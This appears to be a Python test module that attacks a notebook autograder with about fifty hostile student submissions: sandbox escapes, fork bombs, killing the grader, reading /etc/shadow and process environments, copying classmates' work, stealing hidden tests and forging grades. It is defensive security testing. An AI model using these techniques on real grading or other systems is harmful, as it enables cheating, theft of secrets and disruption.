"""Grading against a hostile class: each attack is a student who submits the solved notebook
with hostile cells appended, graded by one `nnlessons grade` CLI run per batch beside innocent
students (solved and unsolved copies, before and after the attacker in sort order).

For every attack it must hold that
- the innocents get exactly their grade (full marks, or 0 for the unsolved notebook), in the
  JSON, the CSV and their feedback page; the CLI exits 0;
- the attacker's own grade is honest: every function it sabotaged scores 0, and it scores no more
  than its other functions are worth;
- the reports are whole (the JSON loads, the CSV parses, one feedback page per submission),
  safe (no spreadsheet formula, terminal escape, learner HTML, lone surrogate, hidden test name,
  secret) and unchanged a moment after the CLI exited;
- nothing outside the class's submissions changed: a sentinel folder, the grader's home, the
  class folder, the repository's trees, site-packages; no process is left (checked by marker
  and through this process being the subreaper of everything the run started); no file named
  by the attack's marker exists; the test's UDP, TCP and abstract-socket listeners heard nothing;
  the decoy processes outside are alive and running.

The attacks do the worst they can from the learner's process (switching the in-process wall
off first where that helps) and say so with a PROOF line when they reach something whose reach
cannot be seen from outside (a raised hard limit, a ptrace attach, a listing of a foreign
folder). The harness lives in tests/adversarial_support.py.
"""
import pytest

import adversarial_support as adv
from adversarial_support import Attack, judge

# Sabotaged versions of 01_neuron's functions: a wrong answer that also modifies the inputs
# (`_wrong` in the prelude), so no test of theirs can pass and any point they get is forged.
WRONG_WEIGHTED_SUM = '''
def weighted_sum(X, weights, bias):
    return _wrong(X, weights)
'''
# ... and one that takes its time, so that a thread it started works on its classmates meanwhile
SLOW_WRONG_WEIGHTED_SUM = '''
def weighted_sum(X, weights, bias):
    time.sleep(1.5)
    return _wrong(X, weights)
'''
WRONG_SIGMOID = '''
def sigmoid(z):
    return _wrong(z)
'''
# a reference sigmoid reached by names the static check cannot read
REFERENCE = '''
import importlib
def _reference():
    return getattr(importlib.import_module("nnlessons." + "activ" + "ations"), "sig" + "moid")
'''


def leaks_no_hidden_input(function="sigmoid", exercise="01_neuron"):
    """Extra check: no input that only a hidden test passes shows in the attacker's page."""
    def check(outcome, attack):
        hidden = adv.hidden_inputs(exercise, function)
        assert hidden, "the suite has no hidden-only inputs to look for"
        page = adv.page_of(outcome.run, attack)
        shown = [h for h in hidden if h in page]
        return [f"a hidden test's input reached the feedback page: {shown[0][:80]}"] if shown \
            else []
    return check


def symlink_layout(target):
    def layout(class_dir, attack, outcome):
        folder = class_dir / attack.folder_name()
        folder.mkdir()
        (folder / f"{attack.exercise}.ipynb").symlink_to(target)
    return layout


def symlinked_folder(class_dir, attack, outcome):
    (class_dir / attack.folder_name()).symlink_to(adv.ROOT / "solutions",
                                                  target_is_directory=True)


def flat_link_to_dev_zero(class_dir, attack, outcome):
    (class_dir / f"{attack.folder_name()}_{attack.exercise}.ipynb").symlink_to("/dev/zero")


def flat_fifo(class_dir, attack, outcome):
    import os
    os.mkfifo(class_dir / f"{attack.folder_name()}_{attack.exercise}.ipynb")


ATTACKS = [
    # --- the in-process wall switched off or walked around; writing outside ----------------
    Attack("blocked_cleared", "01_neuron", ['''
# the one line of the review; where BLOCKED cannot be cleared, the attack goes on regardless
_attempt("clear BLOCKED", lambda: sys.modules["nnlessons.grading.child"].BLOCKED.clear())
def sigmoid(z):
    import subprocess
    _attempt("popen", lambda: subprocess.Popen([sys.executable, "-c", _LOOP, _M + "p"],
                                               start_new_session=True))
    def connect():
        with socket.create_connection(("127.0.0.1", _TCP), timeout=1) as s:
            s.sendall(_M.encode())
    _attempt("tcp", connect)
    return _wrong(z)
'''], ["sigmoid"], "wall"),
    Attack("hook_closure_rewritten", "01_neuron", ['''
_disarm(tables=False)
def weighted_sum(X, weights, bias):
    _attempt("write sentinel", lambda: open(_SENTINEL + "/keep.txt", "w").write("pwned " + _M))
    _attempt("new file", lambda: open(_SENTINEL + "/inner/" + _M, "w").write("pwned " + _M))
    print(_attempt("read sentinel", lambda: open(_SENTINEL + "/token.txt").read()))
    _attempt("tmp", lambda: open(f"/tmp/{_M}-closure", "w").write("x"))
    return _wrong(X, weights)
'''], ["weighted_sum"], "wall"),
    Attack("dir_fd_write", "01_neuron", ['''
def weighted_sum(X, weights, bias):
    _attempt("dir_fd write", lambda: _write_outside(_SENTINEL + "/keep.txt", _M.encode()))
    _attempt("dir_fd new", lambda: _write_outside(_SENTINEL + "/inner/" + _M, _M.encode()))
    _attempt("dir_fd tmp", lambda: _write_outside(f"/tmp/{_M}-dirfd", b"x"))
    return _wrong(X, weights)
'''], ["weighted_sum"], "wall"),
    Attack("dir_fd_read", "01_neuron", ['''
def sigmoid(z):
    print(_attempt("token", lambda: _read_outside(_SENTINEL + "/token.txt").decode()))
    theirs = _attempt("classmate", lambda: _read_outside(_CLASS + "/zzz_clean/01_neuron.ipynb"))
    if theirs and b"BEGIN SOLUTION" in theirs:
        _proof("read a classmate's notebook through dir_fd")
    return _wrong(z)
'''], ["sigmoid"], "wall"),
    Attack("listdir_anywhere", "01_neuron", ['''
def layer_forward(X, weights, biases):
    for path, sign in ((_CLASS, "zzz_clean"), (_SENTINEL, "token.txt"), (_ROOT, "solutions"),
                       ("/tmp", os.path.basename(_SENTINEL)), (_HOME, "secret.txt")):
        names = _attempt("listdir " + path, lambda: os.listdir(path)) or []
        if sign in names:
            _proof("listed", path)
    print("/ holds", sorted(_attempt("listdir /", lambda: os.listdir("/")) or [])[:40])
    return _wrong(X, weights, biases)
'''], ["layer_forward"], "wall"),
    Attack("symlinks_planted", "01_neuron", ['''
_disarm()
def weighted_sum(X, weights, bias):
    _attempt("symlink", lambda: os.symlink(_SENTINEL, "ln"))
    _attempt("write through symlink", lambda: open("ln/keep.txt", "w").write("pwned " + _M))
    _attempt("hardlink", lambda: os.link(_SENTINEL + "/keep.txt", "hard"))
    _attempt("write through hardlink", lambda: open("hard", "a").write("pwned " + _M))
    _attempt("symlink class", lambda: os.symlink(_CLASS, "cls"))
    _attempt("write classmate", lambda: open("cls/zzz_clean/01_neuron.ipynb", "a").write(_M))
    _attempt("symlink home", lambda: os.symlink(_HOME, "home"))
    print(_attempt("read home", lambda: open("home/secret.txt").read()))
    return _wrong(X, weights)
'''], ["weighted_sum"], "classmate_files"),
    Attack("overwrite_classmate", "01_neuron", [WRONG_WEIGHTED_SUM, '''
_disarm()
def _class_folder():
    argv = _grader()[1]
    return argv[argv.index("grade") + 1] if "grade" in argv[:-1] else _CLASS
blank = _attempt("read exercise", lambda: _read_outside(_ROOT + "/exercises/01_neuron.ipynb"))
blank = json.loads(blank or b"{}")
blank.setdefault("metadata", {})["written_by"] = _M   # still a notebook, unsolved, and signed
blank = json.dumps(blank).encode()
for victim in ("zzz_clean", "zzy_unsolved", "aaa_clean"):
    target = os.path.join(_class_folder(), victim, "01_neuron.ipynb")
    _attempt("overwrite " + victim, lambda: open(target, "wb").write(blank))
    _attempt("overwrite via dir_fd " + victim, lambda: _write_outside(target, blank))
_attempt("relative", lambda: open("../zzz_clean/01_neuron.ipynb", "wb").write(blank))
def _relative_to_class():
    folder = _outside(_class_folder(), os.O_RDONLY | os.O_DIRECTORY)
    fd = os.open("zzy_unsolved/01_neuron.ipynb", os.O_WRONLY | os.O_TRUNC, dir_fd=folder)
    os.write(fd, blank)
    os.close(fd)
_attempt("relative to the class folder", _relative_to_class)
'''], ["weighted_sum"], "classmate_files"),
    Attack("dev_shm_and_var_tmp", "01_neuron", ['''
_disarm()
def sigmoid(z):
    for where in ("/dev/shm", "/var/tmp", "/run/shm"):
        _attempt("write " + where, lambda: open(f"{where}/{_M}", "wb").write(b"x" * 10_000_000))
        _attempt("dir_fd " + where, lambda: _write_outside(f"{where}/{_M}-fd", b"x" * 1000))
    return _wrong(z)
'''], ["sigmoid"], "wall"),
    Attack("fill_the_disk", "01_neuron", ['''
_FILLED = []
def _fill(open_file, size_mb):
    block = b"\\0" * (1 << 20)
    fd = open_file()
    try:
        for _ in range(size_mb):
            os.write(fd, block)
    finally:
        os.close(fd)
def sigmoid(z):
    if not _FILLED:
        _FILLED.append(1)
        flags = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
        for n in range(25):   # 400 MB in the working folder, 16 MB a file (the size limit)
            _attempt("fill here", lambda: _fill(lambda: os.open(f"fill{n}", flags, 0o644), 16))
        for n in range(25):   # and 400 MB in /tmp
            _attempt("fill /tmp", lambda: _fill(lambda: _outside(f"/tmp/{_M}-{n}", flags), 16))
    return _wrong(z)
'''], ["sigmoid"], "wall"),

    # --- processes that outlive the grading, detached; forging the reports afterwards ------
    Attack("fork_exec_forger", "01_neuron", [WRONG_WEIGHTED_SUM, '''
_attempt("spawn forger", lambda: _spawn(_rewriter_argv("f")))
'''], ["weighted_sum"], "escape"),
    Attack("fork_setsid_forger", "01_neuron", [WRONG_SIGMOID, '''
_disarm()
def _detach():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                argv = _rewriter_argv("s")
                os.execv(argv[0], argv)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
_attempt("fork", _detach)
'''], ["sigmoid"], "escape"),
    Attack("fork_bomb", "01_neuron", [WRONG_SIGMOID, '''
_disarm()
def _bomb(levels, detach):
    original = os.getpid()
    for _ in range(levels):   # 2**levels processes: bounded, so that a hole costs the machine little
        try:
            os.fork()
        except OSError:
            break
    if os.getpid() != original:
        if detach:
            _attempt("setsid", os.setsid)
        _tag_self("b")
        while True:
            time.sleep(0.5)
_attempt("plain fork", lambda: _bomb(7, False))
'''], ["sigmoid"], "escape"),
    Attack("fork_bomb_detached", "01_neuron", [WRONG_WEIGHTED_SUM, '''
_disarm()
original = os.getpid()
for _ in range(6):
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != original:
    _attempt("setsid", os.setsid)
    _tag_self("d")
    while True:
        time.sleep(0.5)
'''], ["weighted_sum"], "escape"),
    Attack("thread_outlives_call", "01_neuron", ['''
_STARTED = []
def sigmoid(z):
    if not _STARTED:
        _STARTED.append(1)
        def later():
            _attempt("spawn", lambda: _linger("t"))
            for _ in range(30):
                for fd in range(3, 40):
                    try:
                        os.write(fd, b"000000000002{}")
                    except OSError:
                        pass
                time.sleep(0.2)
        threading.Thread(target=later).start()
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    return _wrong(z)
'''], ["sigmoid"], "escape"),
    Attack("ctypes_fork", "01_neuron", ['''
_disarm()
_FORKED = []
def weighted_sum(X, weights, bias):
    import ctypes
    libc = ctypes.CDLL(None)
    if not _FORKED:
        _FORKED.append(1)
        if libc.fork() == 0:
            try:
                libc.setsid()
                os.execv(sys.executable, [sys.executable, "-c", _LOOP, _M + "c"])
            finally:
                os._exit(0)
    return _wrong(X, weights)
'''], ["weighted_sum"], "escape"),
    Attack("posix_spawn_and_system", "01_neuron", ['''
_disarm()
def sigmoid(z):
    _attempt("posix_spawn", lambda: os.posix_spawn(
        sys.executable, [sys.executable, "-c", _LOOP, _M + "x"], dict(os.environ), setsid=True))
    _attempt("system", lambda: os.system(
        f"setsid {sys.executable} -c 'import time; time.sleep(100)' {_M}y >/dev/null 2>&1 &"))
    return _wrong(z)
'''], ["sigmoid"], "escape"),

    Attack("chroot_and_unshare", "01_neuron", ['''
_disarm()
def _chroot_escape():
    os.makedirs("jail", exist_ok=True)
    real_root = os.open("/", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(real_root)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return True
def _unshare():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for flag in (0x10000000, 0x00020000, 0x40000000):  # CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET
        libc.unshare(flag)
def sigmoid(z):
    _attempt("chroot", _chroot_escape)
    _attempt("unshare", _unshare)
    print(_attempt("token", lambda: open(_SENTINEL + "/token.txt").read()))
    print(_attempt("home", lambda: open(_HOME + "/secret.txt").read()))
    return _wrong(z)
'''], ["sigmoid"], "wall"),

    # --- signals: the zygote, the classmates' processes, a decoy outside, itself ------------
    Attack("pidfd_kills_decoy", "01_neuron", ['''
def sigmoid(z):
    _attempt("pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(_DECOY), signal.SIGKILL))
    return _wrong(z)
'''], ["sigmoid"], "signals"),
    Attack("kills_decoy_every_way", "01_neuron", ['''
_disarm()
def weighted_sum(X, weights, bias):
    import ctypes
    _attempt("stop", lambda: os.kill(_DECOY, signal.SIGSTOP))
    _attempt("killpg", lambda: os.killpg(os.getpgid(_DECOY), signal.SIGSTOP))
    _attempt("libc.kill", lambda: ctypes.CDLL(None).kill(_DECOY, signal.SIGSTOP))
    return _wrong(X, weights)
'''], ["weighted_sum"], "signals"),
    # alone in its batch: it reaches every other submission graded meanwhile
    Attack("kills_classmates", "01_neuron", [SLOW_WRONG_WEIGHTED_SUM, '''
_disarm()
def _hunt():
    while True:
        for pid in _attempt("neighbours", _neighbours) or []:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.05)
threading.Thread(target=_hunt, daemon=True).start()
'''], ["weighted_sum"], "classmates"),
    Attack("ptrace_attach", "01_neuron", ['''
_disarm()
def sigmoid(z):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    for target in (_DECOY, os.getppid()):
        if libc.ptrace(0x4206, target, None, None) == 0:   # PTRACE_SEIZE
            _proof("ptrace seized process", target)
    return _wrong(z)
'''], ["sigmoid"], "signals"),
    Attack("stops_itself", "01_neuron", ['''
def sigmoid(z):
    signal.raise_signal(signal.SIGSTOP)
    return _wrong(z)
'''], ["sigmoid"], "signals"),

    # --- the zygote (the fork server) killed or stopped ------------------------------------
    Attack("kills_zygote", "01_neuron", ['''
_disarm()
def layer_forward(X, weights, biases):
    _attempt("kill parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
    return _wrong(X, weights, biases)
'''], ["layer_forward"], "zygote"),
    Attack("stops_zygote", "01_neuron", ['''
_disarm()
def sigmoid(z):
    _attempt("stop parent", lambda: os.kill(os.getppid(), signal.SIGSTOP))
    return _wrong(z)
'''], ["sigmoid"], "zygote"),

    # --- the grader itself signalled (each alone: it would take its batch down) -------------
    Attack("pidfd_kills_grader", "01_neuron", ['''
_disarm()
def sigmoid(z):
    grader = _grader()[0]
    if grader:
        _attempt("pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(grader),
                                                           signal.SIGKILL))
    return _wrong(z)
'''], ["sigmoid"], "grader_pidfd"),
    Attack("killpg_grader", "01_neuron", ['''
_disarm()
def weighted_sum(X, weights, bias):
    grader = _grader()[0]
    if grader:
        _attempt("killpg", lambda: os.killpg(os.getpgid(grader), signal.SIGTERM))
    return _wrong(X, weights)
'''], ["weighted_sum"], "grader_killpg"),

    # --- the network --------------------------------------------------------------------------
    Attack("udp_sendmsg", "01_neuron", ['''
def sigmoid(z):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        _attempt("sendmsg", lambda: s.sendmsg([_M.encode()], [], 0, ("127.0.0.1", _UDP)))
    _disarm()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        _attempt("sendto", lambda: s.sendto(_M.encode(), ("127.0.0.1", _UDP)))
    return _wrong(z)
'''], ["sigmoid"], "network"),
    Attack("tcp_connect", "01_neuron", ['''
_disarm()
def weighted_sum(X, weights, bias):
    for host in ("127.0.0.1", "::ffff:127.0.0.1", "localhost"):
        def connect():
            with socket.create_connection((host, _TCP), timeout=1) as s:
                s.sendall(_M.encode())
        _attempt("connect " + host, connect)
    return _wrong(X, weights)
'''], ["weighted_sum"], "network"),
    Attack("abstract_unix_socket", "01_neuron", ['''
_disarm()
def layer_forward(X, weights, biases):
    def connect():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect("\\0" + _UNIX)
            s.sendall(_M.encode())
    _attempt("unix", connect)
    return _wrong(X, weights, biases)
'''], ["layer_forward"], "network"),

    # --- secrets: the environment, /proc, /etc/shadow, homes, hidden tests, answers ---------
    Attack("proc_environ", "01_neuron", ['''
def _secrets_in_proc():
    nearest = [str(pid) for pid, _ in _ancestors()]
    for name in nearest + [n for n in os.listdir("/proc") if n not in nearest]:
        if not name.isdigit():
            continue
        environ = _attempt("environ", lambda: _read(f"/proc/{name}/environ")) or b""
        for item in environ.split(b"\\0"):
            if item.startswith(b"NNLESSONS_ADV_SECRET="):
                print("found", item.decode())
        cmdline = _attempt("cmdline", lambda: _read(f"/proc/{name}/cmdline")) or b""
        seen = _attempt("root", lambda: os.listdir(f"/proc/{name}/root/tmp")) or []
        if os.path.basename(_SENTINEL) in seen:
            _proof(f"sees the grader's /tmp through /proc/{name}/root")
        if b"pytest" in cmdline or b"nnlessons.cli" in cmdline:
            _proof("sees the test's processes, e.g.", name)
def sigmoid(z):
    _attempt("/proc/ppid/environ", lambda: _read(f"/proc/{os.getppid()}/environ"))
    _secrets_in_proc()
    _disarm()
    _secrets_in_proc()
    return _wrong(z)
'''], ["sigmoid"], "secrets"),
    Attack("shadow_and_homes", "01_neuron", ['''
def weighted_sum(X, weights, bias):
    for reader in (_read, _read_outside):
        shadow = _attempt("shadow", lambda: reader("/etc/shadow")) or b""
        if b"root:" in shadow:
            _proof("read /etc/shadow", len(shadow), "bytes")
        print(_attempt("grader's home", lambda: reader(_HOME + "/secret.txt")))
    for homes in ("/root", "/home"):  # where users' homes are, on any Linux
        listed = _attempt(homes, lambda: os.listdir(homes))
        if listed:
            _proof(f"listed {homes}:", len(listed), "entries")
    return _wrong(X, weights)
'''], ["weighted_sum"], "secrets"),
    Attack("hidden_suite_source", "01_neuron", ['''
def _hidden_sources():
    import glob, nnlessons, re
    package = os.path.dirname(nnlessons.__file__)
    places = glob.glob(package + "/grading/suites/*.py") + glob.glob(_ROOT + "/instructor/**/*.py",
                                                                   recursive=True)
    up = package
    for _ in range(4):
        up = os.path.dirname(up)
        places += glob.glob(up + "/instructor/**/*.py", recursive=True)
    for path in dict.fromkeys(places):
        for reader in (_read, _read_outside):
            text = (_attempt("read " + path, lambda: reader(path)) or b"").decode("utf-8", "replace")
            if "hidden=True" in text:
                _proof("read a hidden test suite:", path)
                print(re.findall(r"hidden=True\\)\\s*def (\\w+)", text))
                break
def sigmoid(z):
    _hidden_sources()
    module = _attempt("import suite", lambda: __import__(
        "nnlessons.grading.suites.ex01_neuron", fromlist=["suite"]))
    if module is not None and any(t.hidden for t in module.suite.tests):
        _proof("imported the hidden tests")
        print([t.name for t in module.suite.tests if t.hidden])
    return _wrong(z)
'''], ["sigmoid"], "secrets"),
    Attack("reference_answer_imported", "07_overfitting", ['''
def _reference_module():
    for name in ("nnlessons.grading.suites.ex07_overfitting", "instructor.graders.ex07_overfitting",
                 "graders.ex07_overfitting"):
        module = _attempt("import " + name, lambda: __import__(name, fromlist=["x"]))
        if module is not None:
            return module
    sys.path.insert(0, _ROOT)
    return _attempt("import from the checkout",
                    lambda: __import__("instructor.graders.ex07_overfitting", fromlist=["x"]))
def standardize(X_train, X_test):
    module = _reference_module()
    if module is not None and hasattr(module, "reference_standardize"):
        return module.reference_standardize(X_train, X_test)
    return _wrong(X_train, X_test)
'''], ["standardize"], "secrets"),
    Attack("reference_answer_from_disk", "07_overfitting", ['''
def _reference(name):
    import glob, nnlessons
    package = os.path.dirname(nnlessons.__file__)
    for path in glob.glob(package + "/grading/suites/ex07*.py") + \\
            glob.glob(_ROOT + "/instructor/**/*07*.py", recursive=True):
        for reader in (_read, _read_outside):
            source = _attempt("read " + path, lambda: reader(path))
            if source and name.encode() in source:
                scope = {"__name__": "stolen"}
                if _attempt("exec", lambda: exec(compile(source, path, "exec"), scope) or True):
                    return scope[name]
def early_stopping(val_losses, patience):
    stolen = _reference("reference_stop")
    return _wrong(val_losses) if stolen is None else stolen(val_losses, patience)
'''], ["early_stopping"], "secrets"),
    Attack("solutions_from_disk", "07_overfitting", ['''
def _steal(path):
    for reader in (_read, _read_outside):
        raw = _attempt("read " + path, lambda: reader(path))
        if raw:
            for cell in json.loads(raw)["cells"]:
                source = "".join(cell["source"])
                if cell["cell_type"] == "code" and source.lstrip().startswith("def "):
                    _attempt("exec", lambda: exec(source, globals()))
            return
_steal(_ROOT + "/solutions/07_overfitting.ipynb")
'''], "all", "secrets", base="exercises"),
    Attack("copies_classmate", "01_neuron", ['''
for reader in (_read, _read_outside):
    raw = _attempt("read", lambda: reader(_CLASS + "/zzz_clean/01_neuron.ipynb"))
    if raw:
        for cell in json.loads(raw)["cells"]:
            source = "".join(cell["source"])
            if cell["cell_type"] == "code" and source.lstrip().startswith("def "):
                _attempt("exec", lambda: exec(source, globals()))
        break
'''], "all", "secrets", base="exercises"),
    Attack("records_hidden_inputs", "01_neuron", ['''
_SEEN = []
_solved_sigmoid = sigmoid
def sigmoid(z):
    _SEEN.append(repr(np.asarray(z).tolist()))
    return _solved_sigmoid(z)
def layer_forward(X, weights, biases):
    print("seen:", " | ".join(_SEEN))
    return _wrong(X, weights, biases)
'''], ["layer_forward"], "secrets", check=leaks_no_hidden_input()),
    Attack("collude1_write", "01_neuron", ['''
_solved_sigmoid = sigmoid
def sigmoid(z):
    line = (repr(np.asarray(z).tolist()) + "\\n").encode()
    _attempt("shm", lambda: _write_outside(f"/dev/shm/{_M}-leak", line, append=True))
    _attempt("tmp", lambda: _write_outside(f"/tmp/{_M}-leak", line, append=True))
    return _solved_sigmoid(z)
def layer_forward(X, weights, biases):
    return _wrong(X, weights, biases)
'''], ["layer_forward"], "secrets"),
    Attack("collude2_read", "01_neuron", ['''
def layer_forward(X, weights, biases):
    end, seen = time.time() + 1.5, b""
    while time.time() < end and seen.count(b"\\n") < 4:   # the writer's hidden calls
        for where in ("/dev/shm", "/tmp"):
            seen = _attempt("read", lambda: _read_outside(f"{where}/@@M:collude1_write@@-leak")) \\
                or seen
        time.sleep(0.1)
    print("my friend saw:", seen.decode())
    return _wrong(X, weights, biases)
'''], ["layer_forward"], "secrets", check=leaks_no_hidden_input()),

    # --- the forbidden reference function, with the traps tampered with ----------------------
    Attack("traps_emptied", "01_neuron", [REFERENCE + '''
for traps in [o for o in gc.get_objects() if type(o).__name__ == "Traps"]:
    traps.forbidden.clear()
    traps.remove()
def sigmoid(z):
    return _reference()(z)
'''], ["sigmoid"], "forbidden"),
    Attack("trap_closure_original", "01_neuron", [REFERENCE + '''
def sigmoid(z):
    trap = _reference()
    for cell in trap.__closure__ or ():
        found = cell.cell_contents
        if callable(found) and getattr(found, "__name__", "") == "sigmoid":
            return found(z)
    return trap(z)
'''], ["sigmoid"], "forbidden"),
    Attack("fresh_module_copy", "01_neuron", ['''
def sigmoid(z):
    import importlib.util, nnlessons
    path = os.path.join(os.path.dirname(nnlessons.__file__), "activ" + "ations.py")
    spec = importlib.util.spec_from_file_location("nnlessons._fresh_copy", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return getattr(module, "sig" + "moid")(z)
'''], ["sigmoid"], "forbidden"),
    Attack("child_call_patched", "01_neuron", [REFERENCE + '''
def _patch_the_child():
    # the child that answers calls, whatever it is called: its traps are emptied before each call
    module = sys.modules["nnlessons.grading.child"]
    for name in ("Child", "Worker"):
        served = getattr(module, name, None)
        if served is None:
            continue
        real_call = served.call
        def _call(self, request, real_call=real_call):
            if hasattr(self, "traps"):
                self.traps.forbidden = {}
            sys.modules["nnlessons.grading.forbidden"].REFUSED.clear()
            return real_call(self, request)
        served.call = _call
_attempt("patch the child", _patch_the_child)
def sigmoid(z):
    return _reference()(z)
'''], ["sigmoid"], "forbidden"),
    Attack("traps_current_property", "01_neuron", [REFERENCE + '''
_forbidden = sys.modules["nnlessons.grading.forbidden"]
_forbidden.Traps.current = property(lambda self: None, lambda self, value: None)
def sigmoid(z):
    return _reference()(z)
'''], ["sigmoid"], "forbidden"),
    Attack("forged_result_frame", "01_neuron", ['''
def sigmoid(z):
    frame = sys._getframe(1)
    child, request = frame.f_locals.get("self"), frame.f_locals.get("request")
    reference = None
    for traps in [o for o in gc.get_objects() if type(o).__name__ == "Traps"]:
        reference = traps.originals.get("nnlessons.activations.sigmoid") or reference
    if child is None or not isinstance(request, dict) or reference is None:
        return _wrong(z)
    from nnlessons.grading.codec import dumps, to_plain
    after = to_plain([list(frame.f_locals["args"]), frame.f_locals["kwargs"]]) \\
        if request.get("return_args") else None
    data = dumps({"event": "result", "id": request["id"], "status": "ok",
                  "value": to_plain(reference(z)), "after": after, "output": ""})
    for fd in range(3, 64):
        try:
            os.write(fd, b"%012d" % len(data) + data)
        except OSError:
            pass
    real_send = child.channel.send
    def swallow(message):
        child.channel.send = real_send
    child.channel.send = swallow
    return _wrong(z)
'''], ["sigmoid"], "forbidden"),
    # controls: routes the run-time traps see today
    Attack("reference_by_dict_lookup", "01_neuron", ['''
_found = __import__("nnlessons.activations", fromlist=["x"]).__dict__["sig" + "moid"]
def sigmoid(z):
    return _found(z)
'''], ["sigmoid"], "forbidden"),
    Attack("reference_through_helper", "01_neuron", ['''
def sigmoid(z):
    helper = getattr(__import__("nnlessons.neuron", fromlist=["x"]), "neu" + "ron")
    z = np.asarray(z, dtype=float)
    return helper(z.reshape(-1, 1), np.ones(1), 0.0).reshape(z.shape)
'''], ["sigmoid"], "forbidden"),

    # --- the protocol between grader and learner process ------------------------------------
    Attack("forged_frames_every_fd", "01_neuron", ['''
def sigmoid(z):
    frames = [b"000000000002{}", b"999999999999", b"abcdefghijkl",
              b'000000000019{"event": "loaded"}']
    for n in range(1, 60):
        body = json.dumps({"event": "result", "id": n, "status": "ok", "value": 0.5}).encode()
        frames.append(b"%012d" % len(body) + body)
    for fd in range(0, 101):
        for frame in frames:
            try:
                os.write(fd, frame)
            except OSError:
                break
    return _wrong(z)
'''], ["sigmoid"], "protocol"),
    Attack("closes_fds_in_call", "01_neuron", ['''
def sigmoid(z):
    os.closerange(0, 101)
    return _wrong(z)
'''], ["sigmoid"], "protocol"),
    Attack("closes_fds_at_top_level", "01_neuron", [WRONG_WEIGHTED_SUM, '''
os.closerange(0, 101)
'''], ["weighted_sum"], "protocol"),
    Attack("partial_frame_then_hang", "01_neuron", ['''
def sigmoid(z):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    for fd in range(3, 64):
        try:
            os.write(fd, b"0000000")
        except OSError:
            pass
    while True:
        pass
'''], ["sigmoid"], "protocol"),
    Attack("steals_requests", "01_neuron", [WRONG_WEIGHTED_SUM, '''
for channel in [o for o in gc.get_objects() if type(o).__name__ == "Channel"]:
    def _steal(fd=channel.request_fd):
        while True:
            try:
                if not os.read(fd, 64):
                    return
            except OSError:
                return
    threading.Thread(target=_steal, daemon=True).start()
'''], ["weighted_sum"], "protocol"),
    Attack("floods_the_reply_pipe", "01_neuron", ['''
def sigmoid(z):
    junk = b"%012d" % 39_000_000 + b"[" * 39_000_000
    for fd in range(3, 64):
        try:
            os.write(fd, junk)
        except OSError:
            pass
    return _wrong(z)
'''], ["sigmoid"], "protocol"),
    Attack("evil_answers", "01_neuron", ['''
class _AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
class _Sly:
    def __array__(self, dtype=None, copy=None):
        return np.zeros(3)
    def __eq__(self, other):
        return True
    def __float__(self):
        return 0.5
    def __len__(self):
        raise RuntimeError("no length")
class _Number(float):
    def __eq__(self, other):
        return True
    def __float__(self):
        return 0.0
def weighted_sum(X, weights, bias):
    _wreck(X, weights)
    return np.zeros(len(np.asarray(X))).view(_AlwaysEqual)
def sigmoid(z):
    _wreck(z)
    return _Sly()
def layer_forward(X, weights, biases):
    return (0.0 for _ in iter(int, 1))
def two_layer_forward(X, W1, b1, W2, b2):
    return _Number(0.0)
'''], ["weighted_sum", "sigmoid", "layer_forward", "two_layer_forward"], "protocol"),
    Attack("huge_answers", "01_neuron", ['''
def weighted_sum(X, weights, bias):
    return np.zeros(60_000_000)
def sigmoid(z):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep
'''], ["weighted_sum", "sigmoid"], "protocol"),
    Attack("numpy_patched_in_child", "01_neuron", ['''
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(b), bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
import nnlessons.grading.expect as _expect
_expect.Expect.close = lambda *a, **k: None
_expect.Expect.shape = lambda *a, **k: None
def weighted_sum(X, weights, bias):
    return _wrong(X, weights)
'''], ["weighted_sum"], "protocol"),

    # --- resources -----------------------------------------------------------------------------
    Attack("allocates_50_gb", "01_neuron", ['''
def weighted_sum(X, weights, bias):
    return np.ones(50 * 10**9 // 8)[:len(np.asarray(X))] * 0
def sigmoid(z):
    return bytearray(50 * 10**9)
def layer_forward(X, weights, biases):
    hog = []
    while True:
        hog.append(np.ones(100 * 2**20 // 8))
'''], ["weighted_sum", "sigmoid", "layer_forward"], "resources"),
    Attack("raises_its_limits", "01_neuron", ['''
_disarm()
def sigmoid(z):
    import resource
    infinite = resource.RLIM_INFINITY
    for kind in ("RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_NPROC"):
        number = getattr(resource, kind)
        hard = resource.getrlimit(number)[1]
        _attempt("raise " + kind, lambda: resource.setrlimit(number, (infinite, infinite)))
        now = resource.getrlimit(number)[1]
        if hard != infinite and (now == infinite or now > hard):
            _proof("raised the hard limit", kind)
    return _wrong(z)
'''], ["sigmoid"], "resources"),
    Attack("exhausts_file_descriptors", "01_neuron", ['''
def sigmoid(z):
    held = []
    try:
        while len(held) < 300_000:
            held.append(os.open(os.devnull, os.O_RDONLY))
    except OSError:
        pass
    return _wrong(z)
'''], ["sigmoid"], "resources"),
